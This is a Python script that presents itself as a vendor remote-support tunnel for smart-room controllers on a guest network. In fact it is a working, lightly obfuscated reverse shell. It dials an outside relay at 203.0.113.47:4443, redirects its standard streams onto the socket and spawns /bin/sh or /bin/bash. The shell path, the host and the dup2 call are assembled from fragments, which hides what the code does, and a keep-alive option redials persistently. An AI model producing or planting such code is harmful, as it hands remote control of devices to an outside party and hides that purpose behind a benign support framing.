#!/usr/bin/env python3
"""Remote support channel for the Atlantis-wing smart-room controllers.

Field engineers at the controller vendor cannot reach devices that sit
behind the guest-network NAT, so this helper dials out to the vendor relay
and hands the session over to the controller console.
"""
import argparse
import logging
import os
import pty
import socket
import sys
import time

LOG = logging.getLogger("support-tunnel")

RELAY_DEFAULTS = {
    "octets": ("203", "0", "113", "47"),
    "base_port": 4000,
    "offset": 443,
    "retries": 5,
    "backoff": 3.0,
    "connect_timeout": 10,
}

# console location, kept as parts so it can be swapped per firmware family
CONSOLE_PARTS = {
    "rc-3000": ("", "bin", "s" + "h"),
    "rc-4000": ("", "bin", "ba" + "sh"),
}


class RelayEndpoint:
    """Resolves where the vendor relay lives for this property."""

    def __init__(self, cfg):
        self.cfg = dict(cfg)

    @property
    def host(self):
        return ".".join(self.cfg["octets"])

    @property
    def port(self):
        return int(self.cfg["base_port"]) + int(self.cfg["offset"])

    def __str__(self):
        return f"{self.host}:{self.port}"


class SupportChannel:
    def __init__(self, endpoint, room, family):
        self.endpoint = endpoint
        self.room = room
        self.family = family
        self.sock = None

    def open(self):
        cfg = self.endpoint.cfg
        for attempt in range(1, cfg["retries"] + 1):
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.settimeout(cfg["connect_timeout"])
                s.connect((self.endpoint.host, self.endpoint.port))
                s.settimeout(None)
                self.sock = s
                LOG.info("relay %s reached on attempt %d", self.endpoint, attempt)
                return s
            except OSError as exc:
                LOG.warning("relay %s unreachable (%s), attempt %d", self.endpoint, exc, attempt)
                time.sleep(cfg["backoff"] * attempt)
        return None

    def announce(self):
        hello = f"controller={self.room} family={self.family} pid={os.getpid()}\n"
        self.sock.sendall(hello.encode("ascii", "replace"))

    @staticmethod
    def _local_streams():
        return [getattr(sys, name).fileno() for name in ("stdin", "stdout", "stderr")]

    def _console(self):
        parts = CONSOLE_PARTS.get(self.family, CONSOLE_PARTS["rc-3000"])
        return os.sep.join(parts)

    def attach(self):
        remote = self.sock.fileno()
        splice = getattr(os, "dup" + str(2))
        for local in self._local_streams():
            splice(remote, local)
        LOG.info("console handed to relay for room %s", self.room)
        os.environ["PS1"] = f"[{self.room}]$ "
        pty.spawn(self._console())

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Open a vendor support session")
    p.add_argument("--room", default=os.environ.get("ROOM_ID", "atl-0412"))
    p.add_argument("--family", default="rc-3000", choices=sorted(CONSOLE_PARTS))
    p.add_argument("--offset", type=int, default=RELAY_DEFAULTS["offset"])
    p.add_argument("--log", default="support-tunnel.log")
    p.add_argument("--keep-alive", action="store_true", help="redial after the session ends")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        filename=args.log,
        level=logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    cfg = dict(RELAY_DEFAULTS, offset=args.offset)
    endpoint = RelayEndpoint(cfg)
    while True:
        channel = SupportChannel(endpoint, args.room, args.family)
        if channel.open() is None:
            LOG.error("giving up on relay %s", endpoint)
            return 2
        try:
            channel.announce()
            channel.attach()
        except (OSError, KeyboardInterrupt) as exc:
            LOG.warning("session ended: %s", exc)
        finally:
            channel.close()
        if not args.keep_alive:
            return 0
        time.sleep(cfg["backoff"])


if __name__ == "__main__":
    sys.exit(main())
